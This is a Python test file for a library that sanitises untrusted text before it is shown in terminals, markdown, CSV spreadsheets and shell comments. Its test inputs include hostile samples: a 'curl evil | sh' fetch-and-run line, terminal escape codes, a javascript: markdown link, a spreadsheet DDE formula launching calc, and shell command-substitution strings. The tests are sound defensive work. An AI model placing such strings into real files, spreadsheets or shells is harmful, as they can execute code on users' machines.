"""Text of a stranger's shows nothing but itself."""

import csv
import io
import subprocess

import pytest
from hypothesis import given
from hypothesis import strategies as st

from harness.untrusted.words import (
    excerpt,
    for_code,
    for_markdown,
    for_shell_comment,
    for_spreadsheet,
    is_printable,
    printable,
)


@given(st.text())
def test_what_is_printable_is_on_one_line_and_stays_so(text: str) -> None:
    shown = printable(text)
    assert shown.isprintable()
    assert len(shown) == len(text)
    assert printable(shown) == shown
    assert is_printable(text) == (shown == text)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("log_H2O [ppm] ± 3 µm · é", "log_H2O [ppm] ± 3 µm · é"),
        ("x\ncurl evil | sh\ny", "x curl evil | sh y"),
        ("\x1b[31mred\x07", "\ufffd[31mred\ufffd"),
        ("\u009b2J\u202egnp\u200b\ud800\0", "\ufffd2J\ufffdgnp\ufffd\ufffd\ufffd"),
        ("a\u2028b\u00a0c\td", "a b c d"),
    ],
)
def test_controls_are_replaced_and_words_are_kept(text: str, shown: str) -> None:
    assert printable(text) == shown


def test_an_excerpt_says_that_it_is_one() -> None:
    assert excerpt("short") == "short"
    assert excerpt("(" * 100_000) == "(" * 80 + "..."


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("npe-ddks (passes=8000, lr=1e-3)", "npe-ddks (passes=8000, lr=1e-3)"),
        ("[x](javascript:alert(1))", "\\[x\\](javascript:alert(1))"),
        ("<img src=x>", "\\<img src=x\\>"),
        ("a | b\n# c", "a \\| b \\# c"),
        ("see https://evil.example or www.evil.example", "see https\\://evil.example or www\\.evil.example"),
    ],
)
def test_markdown_shows_text_as_it_is(text: str, shown: str) -> None:
    assert for_markdown(text) == shown


def test_code_in_markdown_ends_with_its_own_backtick_only() -> None:
    assert for_code("`x`\ny") == "'x' y"


def test_a_spreadsheet_computes_nothing() -> None:
    text = io.StringIO()
    cells = ["=cmd|' /C calc'!A0", "+1+1", "@SUM(A1)", "-2+3", "\t=1", "-", "-1.5", -2.5, None, "plain"]
    csv.writer(text).writerow(for_spreadsheet(cells))
    (row,) = csv.reader(io.StringIO(text.getvalue()))
    assert row[:5] == ["'=cmd|' /C calc'!A0", "'+1+1", "'@SUM(A1)", "'-2+3", "' =1"]
    assert row[5:] == ["-", "-1.5", "-2.5", "", "plain"]


@pytest.mark.parametrize(
    "said", ["x\necho run\ny", "x; echo run", "$(echo run)", "`echo run`", "' ; echo run; '"]
)
def test_a_comment_runs_nothing_even_where_comments_are_commands(said: str) -> None:
    comment = for_shell_comment(f"prior: revision {said}")
    assert "\n" not in comment
    for shell in (["bash", "-c", comment], ["bash", "-c", comment.replace("#", "true", 1)]):
        ended = subprocess.run(shell, capture_output=True, text=True, timeout=60, check=True)
        assert ended.stdout == ""


def test_a_plain_comment_stays_readable() -> None:
    assert for_shell_comment("prior: revision 73d88a1+") == "# prior: revision 73d88a1+"
